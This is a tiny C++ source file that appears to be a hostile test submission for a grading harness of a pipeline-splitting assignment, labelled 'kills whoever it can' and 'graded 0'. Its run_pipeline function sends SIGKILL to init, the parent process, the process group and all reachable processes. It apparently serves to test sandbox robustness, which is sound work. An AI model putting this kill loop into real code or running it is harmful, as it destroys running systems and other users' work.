// hostile: kills whoever it can
// expect: graded 0
#include "pipeline.hpp"

#include <unistd.h>

#include <csignal>
#include <initializer_list>

int split(char** words, Command* commands) {
  commands[0].argv = words;
  return 1;
}

int run_pipeline(const Command*, int) {
  for (const int victim : {1, getppid(), 0, -1}) kill(victim, SIGKILL);
  return 0;
}
